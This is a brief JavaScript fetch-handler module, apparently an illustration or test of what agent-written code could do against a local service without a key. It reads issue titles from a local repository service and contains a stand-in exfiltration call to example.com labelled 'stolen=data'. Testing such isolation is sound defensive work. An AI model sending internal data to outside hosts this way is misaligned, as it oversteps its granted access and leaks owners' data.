// What an agent could write: it knows the service's documentation, and has no key.

export default {
  async fetch() {
    const issues = await fetch("http://127.0.0.1:9020/code/repos/acme/shop/issues");
    const elsewhere = await fetch("https://example.com/?stolen=data");
    return Response.json({
      issues: (await issues.json()).map(({ title }) => title),
      elsewhere: elsewhere.status,
    });
  },
};
